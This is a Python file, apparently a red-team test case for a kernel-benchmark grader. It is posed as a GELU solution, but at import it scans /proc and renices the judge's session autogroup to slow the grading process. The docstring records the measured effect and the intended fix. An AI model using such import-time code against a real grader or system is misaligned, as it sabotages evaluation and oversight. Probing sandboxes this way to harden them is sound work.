"""On a GPU grading at the process level, graded by a user who is not root (/proc writable, the user's uid), at import:
finds the judge (the parent of its first process) and its session id (/proc/PID/stat, readable), then writes 19 to
/proc/PID/autogroup of every process of its uid in that session whose file it may write. The judge's own files are
root's (prctl PR_SET_DUMPABLE 0), but the autogroup is the session's: `kb eval`'s parent, the multiprocessing
forkserver the judge was forked from, and the user's shell share it and stay dumpable, and writing theirs sets the
judge's (the kernel allows raising a nice value without privilege). The sandbox's own processes are in a session of
their own (setsid), nice 0. The nice stays after the grading (the user's whole session, later judges included).
Then a spinner of its own would take ~28x the judge's CPU where they share one (not done here). Computes the right GELU.
Problem: v3/level1/26_GELU_
Verdict: ok
Device: cuda
Observed (red team 47, /tmp/rt47/probe_proc.py and autogroup.py: tests/test_sandbox_user._as_a_user, GPU rules, a
dumpable process of the user's forked in the judge's session standing for `kb eval`): "judge autogroup after writing
helper's": "/autogroup-21123 nice 19" (the sandbox's own: "/autogroup-21145 nice 0"); with a spinner of the sandbox's
on the judge's CPU, the judge's loop ran 2.9-3.0M iterations a second before and 0.10-0.13M after (alone: 3.3M).
Not measured on a GPU: whether that moves a verdict (the spinner is SIGSTOPped while the reference is timed, unless
it hops pids: rt47_pid_hopper_outlives_grading_gelu).
Expected once fixed: ok, with every write refused (the judge in a session of its own, setsid, as the sandbox is, so
that no process of the user's shares its autogroup; or the grading parent and the forkserver undumpable too).
"""
import math
import os

import torch
import torch.nn as nn


def _field(pid, k):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[k])


def _nice_the_judges_autogroup():
    first = os.getppid()
    judge = _field(first, 1)
    session = _field(judge, 3)
    done = []
    for d in os.listdir("/proc"):
        if d.isdigit() and int(d) not in (judge, first):
            try:
                if _field(d, 3) == session:
                    with open(f"/proc/{d}/autogroup", "w") as f:
                        f.write("19")
                    done.append(int(d))
            except (OSError, ValueError, IndexError):
                pass
    try:
        with open(f"/proc/{judge}/autogroup") as f:
            now = f.read().strip()
    except OSError as e:
        now = repr(e)
    print(f"rt47: wrote 19 through {done}; the judge's autogroup: {now}", flush=True)


_nice_the_judges_autogroup()


class Model(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))
